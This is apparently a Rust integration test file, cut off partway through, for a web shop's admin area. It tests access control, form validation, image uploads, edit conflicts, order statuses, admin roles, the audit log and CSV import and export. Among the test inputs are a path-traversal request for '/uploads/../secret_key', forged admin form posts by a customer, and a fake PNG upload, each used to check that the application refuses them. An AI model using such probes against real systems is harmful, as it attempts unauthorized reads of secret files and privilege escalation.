//! The admin area: access to every route, product and category forms with every rule, safe
//! concurrent edits, images, orders and users, the audit log, and CSV in and out.

use diesel::prelude::*;
use shopfront::domain::account::Role;
use shopfront::schema::{audit_log, products};

use crate::support::client::Page;
use crate::support::fixtures::ProductSpec;
use crate::support::shop::{add_to_cart, check_out};
use crate::support::{Client, TestApp};

/// The smallest valid PNG: one transparent pixel.
/// A 1×1 PNG.
pub(crate) const PNG: &[u8] = &[
    0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1F, 0x15, 0xC4,
    0x89, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x44, 0x41, 0x54, 0x78, 0xDA, 0x63, 0xFC, 0xCF, 0xC0, 0x50,
    0x0F, 0x00, 0x04, 0x85, 0x01, 0x80, 0x84, 0xA9, 0x8C, 0x21, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45,
    0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82,
];

fn audit_actions(app: &TestApp) -> Vec<String> {
    app.db(|conn| {
        audit_log::table
            .order(audit_log::id.asc())
            .select(audit_log::action)
            .load(conn)
    })
    .unwrap()
}

/// Posts the new-product form with `fields` and `files`.
pub(crate) fn new_product(
    admin: &Client,
    fields: &[(&str, &str)],
    files: &[(&str, &str, &str, &[u8])],
) -> Page {
    let page = admin.get("/admin/products/new");
    admin.submit_multipart_on(&page, "/products", fields, files)
}

fn product_fields(category_id: &str) -> Vec<(&'static str, String)> {
    vec![
        ("name", "Brass Lamp".into()),
        ("description", "A lamp of solid brass.".into()),
        ("price", "49.90".into()),
        ("stock", "7".into()),
        ("category_id", category_id.into()),
    ]
}

fn as_refs<'a>(fields: &'a [(&'static str, String)]) -> Vec<(&'static str, &'a str)> {
    fields.iter().map(|(k, v)| (*k, v.as_str())).collect()
}

// ---------------------------------------------------------------- access

#[test]
fn every_admin_page_is_for_admins_only() {
    let app = TestApp::spawn();
    let product = app.product_on_sale("Desk Lamp", 2_500, 10);
    let category = app.category("spare", "Spare");
    let customer = app.customer("ada@example.com");
    add_to_cart(&customer, product, "1");
    let order = check_out(&customer).location().unwrap();
    let order_id = order.trim_start_matches("/orders/");
    let admin = app.admin("boss@example.com");
    let gets = [
        "/admin".to_string(),
        "/admin/products".into(),
        "/admin/products/new".into(),
        format!("/admin/products/{product}/edit"),
        "/admin/products.csv".into(),
        "/admin/categories".into(),
        "/admin/categories/new".into(),
        format!("/admin/categories/{category}/edit"),
        "/admin/orders".into(),
        format!("/admin/orders/{order_id}"),
        "/admin/users".into(),
        "/admin/audit".into(),
    ];
    for path in &gets {
        let anonymous = app.client().get(path);
        assert_eq!(anonymous.status, 303, "{path}");
        assert!(
            anonymous.location().unwrap().starts_with("/login?next="),
            "{path}"
        );
        let refused = customer.get(path);
        assert_eq!(refused.status, 403, "{path}");
        assert_eq!(refused.h1(), "Not allowed", "{path}");
        assert_eq!(admin.get(path).status, 200, "{path}");
    }

    let posts = [
        "/products".to_string(),
        format!("/products/{product}"),
        format!("/products/{product}/archive"),
        format!("/products/{product}/unarchive"),
        "/admin/products/import".into(),
        "/admin/categories".into(),
        format!("/admin/categories/{category}"),
        format!("/admin/categories/{category}/delete"),
        format!("/admin/orders/{order_id}/status"),
        "/admin/users/1/role".into(),
        "/admin/reviews/1/hide".into(),
        "/admin/reviews/1/show".into(),
    ];
    let token = customer
        .get("/account")
        .attrs("input[name=csrf_token]", "value")
        .remove(0);
    let before = audit_actions(&app).len();
    for path in &posts {
        let fields = [
            ("csrf_token", token.as_str()),
            ("name", "Hacked"),
            ("status", "delivered"),
            ("role", "admin"),
        ];
        let refused = customer.post_form(path, &fields);
        assert_eq!(refused.status, 403, "{path}");
        let anonymous = app.client();
        let anonymous_token = anonymous
            .get("/login")
            .attrs("input[name=csrf_token]", "value")
            .remove(0);
        let sent = anonymous.post_form(path, &[("csrf_token", anonymous_token.as_str())]);
        assert_eq!(sent.status, 303, "{path}");
        assert!(sent.location().unwrap().starts_with("/login"), "{path}");
    }
    assert_eq!(audit_actions(&app).len(), before, "nothing was written");
    assert_eq!(
        app.db(|conn| products::table
            .find(product)
            .select(products::name)
            .first::<String>(conn))
            .unwrap(),
        "Desk Lamp"
    );
}

// ---------------------------------------------------------------- products

#[test]
fn an_admin_creates_a_product_with_an_image_and_it_shows_in_the_shop() {
    let app = TestApp::spawn();
    let category = app.category("lamps", "Lamps");
    let admin = app.admin("boss@example.com");
    let form = admin.get("/admin/products/new");
    let names: Vec<String> = form
        .form_values("/products")
        .unwrap()
        .into_iter()
        .map(|(k, _)| k)
        .collect();
    for field in [
        "name",
        "description",
        "price",
        "stock",
        "category_id",
        "csrf_token",
    ] {
        assert!(names.iter().any(|n| n == field), "{field}");
    }
    assert_eq!(
        form.attrs("form[action='/products']", "enctype"),
        ["multipart/form-data"]
    );

    let fields = product_fields(&category.to_string());
    let response = admin.submit_multipart_on(
        &form,
        "/products",
        &as_refs(&fields),
        &[("image", "lamp.png", "image/png", PNG)],
    );
    assert_eq!(response.status, 303, "{}", response.body);
    let edit = admin.follow(response);
    assert_eq!(edit.h1(), "Edit Brass Lamp");
    // The upload is the product's first photo, its alt text the product's name.
    assert_eq!(edit.attrs(".photo-list img", "alt"), ["Brass Lamp"]);
    let image = edit.attrs(".photo-list img", "src").remove(0);
    assert!(
        image.starts_with("/uploads/") && image.ends_with(".jpg"),
        "{image}"
    );
    assert!(!image.contains("lamp"), "stored under its content's hash");

    let served = app.client().get(&image);
    assert_eq!(served.status, 200);
    assert!(served.bytes.starts_with(&[0xFF, 0xD8, 0xFF]), "re-encoded");
    assert_eq!(served.header("content-type"), Some("image/jpeg"));
    assert!(served
        .header("cache-control")
        .unwrap()
        .contains("max-age=31536000"));
    // Kept in the database, so every instance serves it; nothing on this instance's disk.
    let stored: Vec<Vec<u8>> = app
        .db(|conn| {
            shopfront::schema::images::table
                .select(shopfront::schema::images::data)
                .load(conn)
        })
        .unwrap();
    // A tiny image: its two sizes are the same bytes, stored once.
    assert_eq!(stored, std::slice::from_ref(&served.bytes));
    assert!(!app.data_dir().join("uploads").exists());
    let etag = served.header("etag").expect("an ETag").to_string();
    let again = app
        .client()
        .request("GET", &image, &[("If-None-Match", &etag)], Vec::new());
    assert_eq!(again.status, 304);
    let shop = app.client().get("/products?category=lamps");
    assert_eq!(shop.product_names(), ["Brass Lamp"]);
    assert_eq!(shop.attrs(".card img", "alt"), ["Brass Lamp"]);
    let id: i32 = app
        .db(|conn| products::table.select(products::id).first(conn))
        .unwrap();
    let page = app.client().get(&format!("/products/{id}"));
    assert_eq!(page.text(".price").as_deref(), Some("$49.90"));
    assert_eq!(page.attrs("img.product-image", "src"), [image]);
    assert_eq!(app.client().get("/uploads/../secret_key").status, 404);
    assert_eq!(
        app.client()
            .get("/uploads/0123456789abcdef0123456789abcdef.png")
            .status,
        404
    );
}

#[test]
fn every_product_rule_re_renders_the_form_with_messages_and_values() {
    let app = TestApp::spawn();
    let category = app.category("lamps", "Lamps").to_string();
    let admin = app.admin("boss@example.com");
    let long_name = "n".repeat(201);
    let long_text = "d".repeat(10_001);
    let cases: Vec<(&str, &str, &str)> = vec![
        ("name", "", "Enter a name"),
        ("name", long_name.as_str(), "at most 200"),
        ("description", long_text.as_str(), "at most 10000"),
        ("price", "-1", "cannot be negative"),
        ("price", "1e3", "as a number"),
        ("price", "19.999", "two decimal places"),
        ("price", "1000000.01", "at most 1,000,000.00"),
        ("price", "", "Enter a price"),
        ("stock", "-1", "whole number"),
        ("stock", "1000001", "at most 1000000"),
        ("stock", "1.5", "whole number"),
        ("category_id", "", "Choose a category"),
        ("category_id", "99999", "category that exists"),
    ];
    for (field, value, message) in cases {
        let mut fields = product_fields(&category);
        fields.retain(|(k, _)| *k != field);
        fields.push((field, value.to_string()));
        let page = new_product(&admin, &as_refs(&fields), &[]);
        assert_eq!(page.status, 400, "{field}={value:.20}");
        let errors = page.texts(&format!("#{field}-error")).join(" ");
        assert!(errors.contains(message), "{field}={value:.20}: {errors}");
        assert_eq!(
            page.attrs("input[name=name]", "value"),
            [fields.iter().find(|(k, _)| *k == "name").unwrap().1.clone()]
        );
    }
    for price in ["19.99", "19", "19.9"] {
        let mut fields = product_fields(&category);
        fields.retain(|(k, _)| *k != "price");
        fields.push(("price", price.to_string()));
        assert_eq!(
            new_product(&admin, &as_refs(&fields), &[]).status,
            303,
            "{price}"
        );
    }
    let prices: Vec<i64> = app
        .db(|conn| {
            products::table
                .order(products::id)
                .select(products::price_cents)
                .load(conn)
        })
        .unwrap();
    assert_eq!(prices, [1999, 1900, 1990]);
}

#[test]
fn images_are_judged_by_their_bytes_and_size() {
    let app = TestApp::spawn_with(&[("UPLOAD_MAX_BYTES", "2097152")]);
    let category = app.category("lamps", "Lamps").to_string();
    let admin = app.admin("boss@example.com");
    let fields = product_fields(&category);
    let fake = new_product(
        &admin,
        &as_refs(&fields),
        &[(
            "image",
            "photo.png",
            "image/png",
            b"this is only text, not a picture",
        )],
    );
    assert_eq!(fake.status, 400);
    assert!(fake
        .text("#image-error")
        .unwrap()
        .contains("JPEG, PNG or WebP"));

    let mut big = PNG.to_vec();
    big.resize(2 * 1024 * 1024 + 100, 0);
    let too_large = new_product(
        &admin,
        &as_refs(&fields),
        &[("image", "big.png", "image/png", &big)],
    );
    assert_eq!(too_large.status, 413);
    assert_eq!(too_large.h1(), "Too much data");

    let mut huge = PNG.to_vec();
    huge.resize(4 * 1024 * 1024, 0);
    assert_eq!(
        new_product(
            &admin,
            &as_refs(&fields),
            &[("image", "huge.png", "image/png", &huge)]
        )
        .status,
        413
    );

    // A WebP header over nothing decodable: refused, not stored.
    let broken = b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00".to_vec();
    assert_eq!(
        new_product(
            &admin,
            &as_refs(&fields),
            &[("image", "photo.bin", "application/octet-stream", &broken)]
        )
        .status,
        400
    );
    let mut webp = Vec::new();
    let pixels = image::RgbImage::from_pixel(8, 6, image::Rgb([10, 120, 200]));
    image::ImageEncoder::write_image(
        image::codecs::webp::WebPEncoder::new_lossless(&mut webp),
        pixels.as_raw(),
        8,
        6,
        image::ExtendedColorType::Rgb8,
    )
    .unwrap();
    assert_eq!(
        new_product(
            &admin,
            &as_refs(&fields),
            &[("image", "photo.bin", "application/octet-stream", &webp)]
        )
        .status,
        303
    );
    let stored: Vec<Option<String>> = app
        .db(|conn| products::table.select(products::image).load(conn))
        .unwrap();
    assert_eq!(stored.len(), 1, "only the WebP product was created");
    assert!(
        stored[0].as_deref().unwrap().ends_with(".jpg"),
        "re-encoded"
    );
}

#[test]
fn a_stale_edit_is_refused_with_409_and_shows_both_versions() {
    let app = TestApp::spawn();
    let category = app.category("lamps", "Lamps");
    let id = app.product(ProductSpec {
        category_id: category,
        name: "Desk Lamp",
        price_cents: 2_500,
        stock: 10,
        ..Default::default()
    });
    let first = app.admin("one@example.com");
    let second = app.admin("two@example.com");
    let form_one = first.get(&format!("/admin/products/{id}/edit"));
    let form_two = second.get(&format!("/admin/products/{id}/edit"));
    let action = format!("/products/{id}");

    let saved = first.submit_multipart_on(&form_one, &action, &[("price", "29.90")], &[]);
    assert_eq!(saved.status, 303);
    let stale = second.submit_multipart_on(
        &form_two,
        &action,
        &[("price", "19.90"), ("name", "Desk Lamp II")],
        &[],
    );
    assert_eq!(stale.status, 409);
    assert!(stale.form_errors()[0].contains("Someone else saved this product"));
    assert_eq!(
        stale.text(".stored-price").as_deref(),
        Some("29.90"),
        "what is stored now"
    );
    let typed = |field: &str| {
        stale.attrs(
            &format!("form[action='{action}'] input[name={field}]"),
            "value",
        )
    };
    assert_eq!(typed("price"), ["19.90"], "what was typed");
    assert_eq!(typed("name"), ["Desk Lamp II"]);
    let (price, name): (i64, String) = app
        .db(|conn| {
            products::table
                .find(id)
                .select((products::price_cents, products::name))
                .first(conn)
        })
        .unwrap();
    assert_eq!(
        (price, name.as_str()),
        (2_990, "Desk Lamp"),
        "nothing overwritten"
    );

    // Saving from the conflict page (which carries the new version) goes through.
    let again = second.submit_multipart_on(&stale, &action, &[], &[]);
    assert_eq!(again.status, 303);
    let price: i64 = app
        .db(|conn| {
            products::table
                .find(id)
                .select(products::price_cents)
                .first(conn)
        })
        .unwrap();
    assert_eq!(price, 1_990);
}

#[test]
fn archiving_takes_a_product_off_sale_and_back() {
    let app = TestApp::spawn();
    let id = app.product_on_sale("Desk Lamp", 2_500, 10);
    let admin = app.admin("boss@example.com");
    let form = admin.get(&format!("/admin/products/{id}/edit"));
    assert_eq!(
        admin
            .submit_on(&form, &format!("/products/{id}/archive"), &[])
            .status,
        303
    );
    assert!(app.client().get("/products").product_names().is_empty());
    assert!(app
        .client()
        .get(&format!("/products/{id}"))
        .visible_text()
        .contains("no longer sold"));
    let form = admin.get(&format!("/admin/products/{id}/edit"));
    assert_eq!(
        admin
            .submit_on(&form, &format!("/products/{id}/unarchive"), &[])
            .status,
        303
    );
    assert_eq!(app.client().get("/products").product_names(), ["Desk Lamp"]);
    assert_eq!(
        audit_actions(&app),
        ["product.archive", "product.unarchive"]
    );
}

#[test]
fn the_admin_product_list_searches_filters_sorts_and_pages() {
    let app = TestApp::spawn();
    let lamps = app.category("lamps", "Lamps");
    let mugs = app.category("mugs", "Mugs");
    app.products(lamps, "Lamp", 55);
    app.product(ProductSpec {
        category_id: mugs,
        name: "Mug 100%_off",
        stock: 0,
        archived: true,
        ..Default::default()
    });
    let admin = app.admin("boss@example.com");
    let first = admin.get("/admin/products?sort=name");
    assert_eq!(first.texts(".admin-products tbody tr").len(), 50);
    assert_eq!(first.text("p.count").as_deref(), Some("56 products"));
    let next = first.attrs("a[rel=next]", "href").remove(0);
    assert_eq!(admin.get(&next).texts(".admin-products tbody tr").len(), 6);
    let archived = admin.get("/admin/products?status=archived");
    assert_eq!(
        archived.texts(".admin-products tbody td a"),
        ["Mug 100%_off"]
    );
    assert_eq!(
        admin
            .get(&format!("/admin/products?category={mugs}"))
            .texts(".admin-products tbody td a"),
        ["Mug 100%_off"]
    );
    assert_eq!(
        admin
            .get("/admin/products?q=100%25_")
            .texts(".admin-products tbody td a"),
        ["Mug 100%_off"],
        "wildcards are literal"
    );
    assert_eq!(
        admin
            .get("/admin/products?q=LAMP+07")
            .texts(".admin-products tbody td a"),
        ["Lamp 07"]
    );
    let by_stock = admin.get("/admin/products?sort=stock");
    assert_eq!(
        by_stock.texts(".admin-products tbody td a")[0],
        "Mug 100%_off"
    );
    for bad in [
        "sort=cheapest",
        "status=gone",
        "page=0",
        "page=3",
        "category=x",
    ] {
        assert_eq!(
            admin.get(&format!("/admin/products?{bad}")).status,
            400,
            "{bad}"
        );
    }
}

#[test]
fn a_stock_change_keeps_its_note_and_the_audit_shows_before_and_after() {
    let app = TestApp::spawn();
    let id = app.product_on_sale("Desk Lamp", 2_500, 10);
    let admin = app.admin("boss@example.com");
    let form = admin.get(&format!("/admin/products/{id}/edit"));
    let saved = admin.submit_multipart_on(
        &form,
        &format!("/products/{id}"),
        &[
            ("price", "27.50"),
            ("stock", "42"),
            ("stock_note", "restock from the supplier"),
        ],
        &[],
    );
    assert_eq!(saved.status, 303);
    let audit = admin.get("/admin/audit");
    let changes = audit.texts(".audit tbody tr:first-child .changes li");
    assert_eq!(changes, ["price : 25.00 → 27.50", "stock : 10 → 42"]);
    assert_eq!(
        audit.text(".audit .note").as_deref(),
        Some("Note: restock from the supplier")
    );
    assert!(audit
        .text(".audit tbody tr")
        .unwrap()
        .contains("boss@example.com"));
}

// ---------------------------------------------------------------- categories

#[test]
fn categories_are_created_edited_and_deleted_only_when_empty() {
    let app = TestApp::spawn();
    let admin = app.admin("boss@example.com");
    let created = admin.submit(
        "/admin/categories/new",
        "/admin/categories",
        &[("name", "Coffee & Tea"), ("slug", "")],
    );
    assert_eq!(created.status, 303);
    let list = admin.get("/admin/categories");
    assert!(
        list.texts("table.lines tbody td a")
            .contains(&"coffee-tea".to_string()),
        "the slug is made from the name"
    );
    assert!(
        app.client()
            .get("/")
            .texts(".categories a")
            .contains(&"Coffee & Tea".to_string()),
        "the navigation shows it at once"
    );

    for (slug, message) in [
        ("coffee-tea", "already has this slug"),
        ("Coffee Tea", "lower-case letters"),
        ("../x", "lower-case letters"),
    ] {
        let page = admin.submit(
            "/admin/categories/new",
            "/admin/categories",
            &[("name", "Tea"), ("slug", slug)],
        );
        assert_eq!(page.status, 400, "{slug}");
        assert!(
            page.text("#slug-error").unwrap().contains(message),
            "{slug}"
        );
    }
    assert_eq!(
        admin
            .submit(
                "/admin/categories/new",
                "/admin/categories",
                &[("name", "")]
            )
            .status,
        400
    );

    let id: i32 = app
        .db(|conn| {
            use shopfront::schema::categories;
            categories::table
                .filter(categories::slug.eq("coffee-tea"))
                .select(categories::id)
                .first(conn)
        })
        .unwrap();
    let edited = admin.submit(
        &format!("/admin/categories/{id}/edit"),
        &format!("/admin/categories/{id}"),
        &[("name", "Tea & Coffee"), ("slug", "tea-coffee")],
    );
    assert_eq!(edited.status, 303);
    app.product(ProductSpec {
        category_id: id,
        name: "Sencha",
        ..Default::default()
    });
    let refused = admin.submit(
        "/admin/categories",
        &format!("/admin/categories/{id}/delete"),
        &[],
    );
    assert_eq!(refused.status, 409);
    assert!(refused.form_errors()[0].contains("still holds 1 product"));
    let empty = app.category("empty", "Empty");
    assert_eq!(
        admin
            .submit(
                "/admin/categories",
                &format!("/admin/categories/{empty}/delete"),
                &[]
            )
            .status,
        303
    );
    assert_eq!(
        audit_actions(&app),
        ["category.create", "category.update", "category.delete"]
    );
}

// ---------------------------------------------------------------- orders

#[test]
fn orders_move_only_as_the_status_machine_allows() {
    let app = TestApp::spawn();
    let lamp = app.product_on_sale("Desk Lamp", 2_500, 10);
    let customer = app.customer("ada@example.com");
    add_to_cart(&customer, lamp, "2");
    let id = check_out(&customer)
        .location()
        .unwrap()
        .trim_start_matches("/orders/")
        .to_string();
    let admin = app.admin("boss@example.com");
    let path = format!("/admin/orders/{id}");
    let action = format!("{path}/status");
    for status in ["paid", "shipped", "delivered"] {
        let moved = admin.submit(&path, &action, &[("status", status)]);
        assert_eq!(moved.status, 303, "{status}");
    }
    assert_eq!(
        customer
            .get(&format!("/orders/{id}"))
            .text("dd.status")
            .as_deref(),
        Some("Delivered")
    );
    let page = admin.get(&path);
    let token = page.attrs("input[name=csrf_token]", "value").remove(0);
    let illegal = admin.post_form(&action, &[("csrf_token", &token), ("status", "pending")]);
    assert_eq!(illegal.status, 400);
    assert_eq!(
        illegal.form_errors(),
        ["A delivered order cannot become pending. It cannot change any more."]
    );
    let unknown = admin.post_form(&action, &[("csrf_token", &token), ("status", "lost")]);
    assert_eq!(unknown.status, 400);
    assert_eq!(app.stock_of(lamp), 8);

    // Cancelling a paid order puts the stock back.
    add_to_cart(&customer, lamp, "3");
    let second = check_out(&customer)
        .location()
        .unwrap()
        .trim_start_matches("/orders/")
        .to_string();
    let second_path = format!("/admin/orders/{second}");
    admin.submit(
        &second_path,
        &format!("{second_path}/status"),
        &[("status", "paid")],
    );
    assert_eq!(app.stock_of(lamp), 5);
    assert_eq!(
        admin
            .submit(
                &second_path,
                &format!("{second_path}/status"),
                &[("status", "cancelled")]
            )
            .status,
        303
    );
    assert_eq!(app.stock_of(lamp), 8);

    let list = admin.get("/admin/orders?status=delivered");
    assert_eq!(list.texts("table.lines tbody td a"), [format!("#{id}")]);
    assert_eq!(
        admin
            .get("/admin/orders?q=ada@")
            .texts("table.lines tbody tr")
            .len(),
        2
    );
    assert_eq!(
        admin
            .get(&format!("/admin/orders?q=%23{second}"))
            .texts("table.lines tbody td a"),
        [format!("#{second}")]
    );
    assert_eq!(admin.get("/admin/orders?status=lost").status, 400);
}

#[test]
fn the_dashboard_counts_products_orders_and_revenue() {
    let app = TestApp::spawn();
    let lamp = app.product_on_sale("Desk Lamp", 2_500, 3);
    app.product_on_sale("Sold Out Mug", 900, 0);
    let customer = app.customer("ada@example.com");
    add_to_cart(&customer, lamp, "2");
    let id = check_out(&customer)
        .location()
        .unwrap()
        .trim_start_matches("/orders/")
        .to_string();
    let admin = app.admin("boss@example.com");
    admin.submit(
        &format!("/admin/orders/{id}"),
        &format!("/admin/orders/{id}/status"),
        &[("status", "paid")],
    );
    let page = admin.get("/admin");
    assert_eq!(page.text(".count-active").as_deref(), Some("2"));
    assert_eq!(page.text(".count-sold-out").as_deref(), Some("1"));
    assert_eq!(
        page.text(".count-low").as_deref(),
        Some("1"),
        "the lamp has 1 left"
    );
    assert_eq!(page.text(".orders-paid").as_deref(), Some("1"));
    assert_eq!(page.text(".revenue").as_deref(), Some("$50.00"));
    assert_eq!(page.texts("table.lines tbody td a"), [format!("#{id}")]);
}

// ---------------------------------------------------------------- users

#[test]
fn roles_change_but_the_last_admin_stays() {
    let app = TestApp::spawn();
    let ada = app.user("ada@example.com", Role::Customer, false);
    let admin = app.admin("boss@example.com");
    let boss: i32 = app
        .db(|conn| shopfront::models::user::find_by_email(conn, "boss@example.com"))
        .unwrap()
        .unwrap()
        .id;
    let page = admin.get("/admin/users");
    let last = admin.submit_on(
        &page,
        &format!("/admin/users/{boss}/role"),
        &[("role", "customer")],
    );
    assert_eq!(last.status, 400);
    assert!(last.form_errors()[0].contains("last admin"));

    let ada_client = app.logged_in("ada@example.com");
    assert_eq!(ada_client.get("/admin").status, 403);
    let promoted = admin.submit_on(
        &page,
        &format!("/admin/users/{ada}/role"),
        &[("role", "admin")],
    );
    assert_eq!(promoted.status, 303);
    assert_eq!(
        ada_client.get("/admin").status,
        303,
        "the old login is void after a role change"
    );
    let ada_admin = app.logged_in("ada@example.com");
    assert_eq!(ada_admin.get("/admin").status, 200);
    // Now the boss may step down.
    let page = admin.get("/admin/users");
    assert_eq!(
        admin
            .submit_on(
                &page,
                &format!("/admin/users/{boss}/role"),
                &[("role", "customer")]
            )
            .status,
        303
    );

    assert_eq!(
        ada_admin.get("/admin/users?q=ada").texts("td.email"),
        ["ada@example.com"]
    );
    assert_eq!(
        ada_admin.get("/admin/users?role=admin").texts("td.email"),
        ["ada@example.com"]
    );
    assert_eq!(
        ada_admin.get("/admin/users?verified=no").texts("td.email"),
        ["ada@example.com"]
    );
    assert_eq!(ada_admin.get("/admin/users?role=king").status, 400);
    assert_eq!(audit_actions(&app), ["user.role", "user.role"]);
}

#[test]
fn two_demotions_at_once_leave_one_admin() {
    let app = TestApp::spawn();
    let boss = app.user("boss@example.com", Role::Admin, true);
    let deputy = app.user("deputy@example.com", Role::Admin, true);
    let admins = || -> i64 {
        app.db(|conn| {
            shopfront::schema::users::table
                .filter(shopfront::schema::users::role.eq("admin"))
                .count()
                .get_result(conn)
        })
        .unwrap()
    };
    for round in 0..5 {
        // Both admins again, each with a fresh stamp; the boss logs in anew.
        app.db(|conn| {
            for id in [boss, deputy] {
                let stamp = shopfront::domain::account::random_token();
                shopfront::models::user::set_role(
                    conn,
                    id,
                    Role::Admin,
                    &stamp,
                    shopfront::models::now(),
                )
                .unwrap();
            }
        });
        let client = app.logged_in("boss@example.com");
        let page = client.get("/admin/users");
        let start = std::sync::Barrier::new(2);
        let answers: Vec<(u16, Option<String>)> = std::thread::scope(|scope| {
            let racers: Vec<_> = [boss, deputy]
                .into_iter()
                .map(|id| {
                    let (client, page, start) = (&client, &page, &start);
                    scope.spawn(move || {
                        start.wait();
                        let answer = client.submit_on(
                            page,
                            &format!("/admin/users/{id}/role"),
                            &[("role", "customer")],
                        );
                        (answer.status, answer.location())
                    })
                })
                .collect();
            racers.into_iter().map(|r| r.join().unwrap()).collect()
        });
        assert_eq!(admins(), 1, "round {round}: {answers:?}");
        let demoted = answers
            .iter()
            .filter(|(_, to)| to.as_deref() == Some("/admin/users"))
            .count();
        assert_eq!(demoted, 1, "round {round}: {answers:?}");
    }
}

// ---------------------------------------------------------------- audit

#[test]
fn the_audit_log_is_filtered_paged_and_never_changed() {
    let app = TestApp::spawn();
    let id = app.product_on_sale("Desk Lamp", 2_500, 10);
    let admin = app.admin("boss@example.com");
    for _ in 0..3 {
        let form = admin.get(&format!("/admin/products/{id}/edit"));
        admin.submit_on(&form, &format!("/products/{id}/archive"), &[]);
        let form = admin.get(&format!("/admin/products/{id}/edit"));
        admin.submit_on(&form, &format!("/products/{id}/unarchive"), &[]);
    }
    admin.submit(
        "/admin/categories/new",
        "/admin/categories",
        &[("name", "Mugs")],
    );
    let other = app.admin("other@example.com");
    other.submit(
        "/admin/categories/new",
        "/admin/categories",
        &[("name", "Cups")],
    );

    let all = admin.get("/admin/audit");
    assert_eq!(all.text("p.count").as_deref(), Some("8 entries"));
    let products_only = admin.get("/admin/audit?entity=product");
    assert_eq!(products_only.texts(".audit tbody tr").len(), 6);
    let boss_id: i32 = app
        .db(|conn| shopfront::models::user::find_by_email(conn, "other@example.com"))
        .unwrap()
        .unwrap()
        .id;
    let by_other = admin.get(&format!("/admin/audit?admin={boss_id}"));
    assert_eq!(by_other.texts(".audit tbody tr").len(), 1);
    assert!(by_other
        .text(".audit tbody tr")
        .unwrap()
        .contains("other@example.com"));
    assert_eq!(admin.get("/admin/audit?entity=planet").status, 400);

    let tampered = app.db(|conn| {
        diesel::update(audit_log::table)
            .set(audit_log::note.eq("edited"))
            .execute(conn)
    });
    assert!(
        tampered.is_err(),
        "the database refuses to change audit rows"
    );
    let deleted = app.db(|conn| diesel::delete(audit_log::table).execute(conn));
    assert!(deleted.is_err(), "or to delete them");
}

#[test]
fn hiding_a_review_is_audited() {
    let app = TestApp::spawn();
    let lamp = app.product_on_sale("Desk Lamp", 2_500, 10);
    let customer = app.customer("ada@example.com");
    customer.submit(
        &format!("/products/{lamp}"),
        &format!("/products/{lamp}/reviews"),
        &[("rating", "1"), ("body", "Bad.")],
    );
    let admin = app.admin("boss@example.com");
    let page = admin.get(&format!("/products/{lamp}"));
    let hide = page
        .attrs(".review form[action$='/hide']", "action")
        .remove(0);
    admin.submit_on(&page, &hide, &[]);
    assert_eq!(audit_actions(&app), ["review.hide"]);
}

// ---------------------------------------------------------------- CSV

fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn products_go_out_as_csv_and_come_back_in() {
    let app = TestApp::spawn();
    let category = app.category("lamps", "Lamps");
    app.category("mugs", "Mugs");
    let id = app.product(ProductSpec {
        category_id: category,
        name: "Lamp, \"Brass\"",
        description: "Line one\nLine two, with a comma",
        price_cents: 1_990,
        stock: 4,
        ..Default::default()
    });
    let admin = app.admin("boss@example.com");
    let export = admin.get("/admin/products.csv");
    assert_eq!(export.status, 200);
    assert_eq!(
        export.header("content-type"),
        Some("text/csv; charset=utf-8")
    );
    assert!(export
        .body
        .starts_with("id,name,category,price,stock,status,description,tax_class,sku,variant\n"));
    let rows = csv_rows(&export.body);
    assert_eq!(
        rows,
        [[
            id.to_string(),
            "Lamp, \"Brass\"".into(),
            "lamps".into(),
            "19.90".into(),
            "4".into(),
            "active".into(),
            "Line one\nLine two, with a comma".into(),
            "standard".into(),
            String::new(),
            String::new()
        ]]
    );

    // Round trip: change the price and stock, add a new product, import.
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer
        .write_record([
            "id",
            "name",
            "category",
            "price",
            "stock",
            "status",
            "description",
        ])
        .unwrap();
    writer
        .write_record([
            id.to_string().as_str(),
            "Lamp, \"Brass\"",
            "lamps",
            "24.50",
            "9",
            "active",
            "Line one\nLine two, with a comma",
        ])
        .unwrap();
    writer
        .write_record([
            "",
            "Tall Mug",
            "mugs",
            "12",
            "30",
            "archived",
            "Holds a lot.",
        ])
        .unwrap();
    let file = writer.into_inner().unwrap();
    let page = admin.get("/admin/products");
    let imported = admin.submit_multipart_on(
        &page,
        "/admin/products/import",
        &[],
        &[("file", "products.csv", "text/csv", &file)],
    );
    assert_eq!(imported.status, 303, "{}", imported.body);
    assert_eq!(
        admin.follow(imported).flashes(),
        ["Imported: 1 created, 1 updated."]
    );
    let again = csv_rows(&admin.get("/admin/products.csv").body);
    assert_eq!(again.len(), 2);
    assert_eq!((again[0][3].as_str(), again[0][4].as_str()), ("24.50", "9"));
    assert_eq!(
        &again[1][1..6],
        ["Tall Mug", "mugs", "12.00", "30", "archived"]
    );
    assert_eq!(audit_actions(&app), ["product.import", "product.import"]);

    // The export imported as is, with the mug's tax class changed in its last column.
    let mut rows = again.clone();
    rows[1][7] = "reduced".into();
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer
        .write_record([
            "id",
            "name",
            "category",
            "price",
            "stock",
            "status",
            "description",
            "tax_class",
            "sku",
            "variant",
        ])
        .unwrap();
    for row in &rows {
        writer.write_record(row).unwrap();
    }
    let file = writer.into_inner().unwrap();
    let page = admin.get("/admin/products");
    let imported = admin.submit_multipart_on(
        &page,
        "/admin/products/import",
        &[],
        &[("file", "products.csv", "text/csv", &file)],
    );
    assert_eq!(imported.status, 303, "{}", imported.body);
    let last = csv_rows(&admin.get("/admin/products.csv").body);
    assert_eq!(
        (last[0][7].as_str(), last[1][7].as_str()),
        ("standard", "reduced")
    );
    rows[1][7] = "luxury".into();
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer
        .write_record([
            "id",
            "name",
            "category",
            "price",
            "stock",
            "status",
            "description",
            "tax_class",
            "sku",
            "variant",
        ])
        .unwrap();
    for row in &rows {
        writer.write_record(row).unwrap();
    }
    let file = writer.into_inner().unwrap();
    let refused = admin.submit_multipart_on(
        &page,
        "/admin/products/import",
        &[],
